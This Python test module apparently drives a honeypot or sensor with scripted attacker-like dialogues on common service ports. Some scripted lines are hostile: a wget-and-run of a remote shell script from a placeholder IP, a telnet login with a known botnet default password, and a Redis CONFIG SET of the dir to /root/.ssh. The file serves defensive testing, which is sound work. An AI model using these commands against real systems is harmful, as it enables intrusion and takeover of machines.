"""Strangers that talk with a persona: what they say is scripted, what they hear is not looked at."""

from __future__ import annotations

import struct
from dataclasses import dataclass

from tests.soak import notes
from tests.soak.tls_kinds import Secure
from tests.soak.visits import Kinds, Over, Visit


@dataclass(frozen=True)
class Script:
    """Lines to say, one after the other, to one of these ports. `greeted`: who speaks so waits for a greeting."""

    ports: tuple[int, ...]
    lines: tuple[bytes, ...]
    greeted: bool = False


def _mysql_login() -> bytes:
    body = struct.pack("<IIB", 0x000FA285, 1 << 24, 0x21) + bytes(23) + b"root\0" + b"\x14" + b"A" * 20
    return len(body).to_bytes(3, "little") + b"\x01" + body


def _dns_query(name: str) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 0x5AAC, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def _framed(query: bytes) -> bytes:
    return len(query).to_bytes(2, "big") + query


SCRIPTS = {
    "shell": Script(
        (4444, 2001),
        (
            b"id\n", b"cd /tmp; wget http://203.0.113.5/a.sh; chmod 777 a.sh; ./a.sh\n",
            b"echo -e '\\x73\\x6f' > b; cat b; ls -l\n", b"/bin/busybox SOAK\n", b"uname -a\n", b"exit\n",
        ),
    ),
    "telnet": Script(
        (23, 2323), (b"\xff\xfb\x18\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"enable\r\n", b"sh\r\n", b"id\r\n"), True
    ),
    "ftp": Script(
        (21, 2121),
        (b"USER anonymous\r\n", b"PASS a@b\r\n", b"SYST\r\n", b"PWD\r\n", b"TYPE I\r\n", b"SIZE x\r\n", b"QUIT\r\n"),
        True,
    ),
    "http": Script(
        (80, 8080),
        (
            b"GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n",
            b"GET /admin HTTP/1.1\r\nHost: a\r\nAuthorization: Basic cm9vdDpy\r\n\r\n",
            b"POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
        ),
    ),
    "smtp": Script(
        (25, 587),
        (
            b"EHLO a.example\r\n", b"AUTH LOGIN\r\n", b"cm9vdA==\r\n", b"c2VjcmV0\r\n", b"MAIL FROM:<a@b.example>\r\n",
            b"RCPT TO:<c@d.example>\r\n", b"DATA\r\n", b"Subject: x\r\n\r\nhello\r\n.\r\n", b"QUIT\r\n",
        ),
        True,
    ),
    "pop3": Script((110,), (b"CAPA\r\n", b"USER root\r\n", b"PASS secret\r\n", b"STAT\r\n", b"QUIT\r\n"), True),
    "redis": Script(
        (6379,),
        (b"INFO\r\n", b"*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$1\r\n1\r\n", b"CONFIG SET dir /root/.ssh\r\n", b"SAVE\r\n"),
    ),
    "ssh": Script((22, 2222), (b"SSH-2.0-libssh_0.9.6\r\n", b"\0\0\0\x0c\x0a\x14" + b"A" * 10), True),
    "mysql": Script((3306,), (_mysql_login(), b"\x0f\0\0\0\x03select version", b"\x01\0\0\0\x01"), True),
    "dns": Script((53,), (_framed(_dns_query("version.bind")), _framed(_dns_query("a.example")))),
    "pbx": Script((5038,), (b"login root\r\n", b"hello\r\n", b"quit\r\n")),
}  # fmt: skip


def dialogue(visit: Visit) -> None:
    """One of the scripts, sometimes inside TLS, sometimes given up in its middle."""
    lot = visit.lot
    name = lot.choice(sorted(SCRIPTS))
    script = SCRIPTS[name]
    visit.connect(visit.world.port_for(lot, *script.ports))
    visit.note.kind = f"dialogue {name}"
    tunnel = None
    if lot.random() < 0.2:
        tunnel = Secure(visit)
        tunnel.handshake()
    speaker = tunnel or visit
    if script.greeted and visit.world.every_port:
        speaker.hear(1.0)
    stop = lot.randint(1, 2 * len(script.lines))
    for line in script.lines[:stop]:
        speaker.say(notes.said(line))
        speaker.hear(1.0)
    if tunnel and lot.random() < 0.5:
        tunnel.goodbye()
    if lot.random() < 0.2:
        visit.leave()
    visit.finish()


def ftp_upload(visit: Visit) -> None:
    """FTP with a data connection, which is a session of its own."""
    visit.connect(visit.world.port_for(visit.lot, 21, 2121))
    if visit.world.every_port:
        visit.hear()
    for line in (b"USER anonymous\r\n", b"PASS a@b\r\n", b"TYPE I\r\n"):
        visit.say(notes.said(line))
        visit.hear()
    visit.say(notes.said(b"EPSV\r\n"))
    reply = visit.hear()
    visit.say(notes.said(b"STOR x.sh\r\n"))
    if b"(|||" in reply:
        port = int(reply.partition(b"(|||")[2].split(b"|")[0])
        data = Visit(visit.world, visit.number * 100 + 1, "ftp data", visit.lot)
        try:
            data.connect(port, source=visit.note.src, target=visit.note.dst)
            data.say(data.made(visit.lot.randint(1, 50000)))
            data.finish()
        except Over:
            visit.hear()
    visit.say(notes.said(b"QUIT\r\n"))
    visit.finish()


# What a stranger is, and how many of a thousand are such ones.
TALKERS: Kinds = {dialogue: 140, ftp_upload: 10}
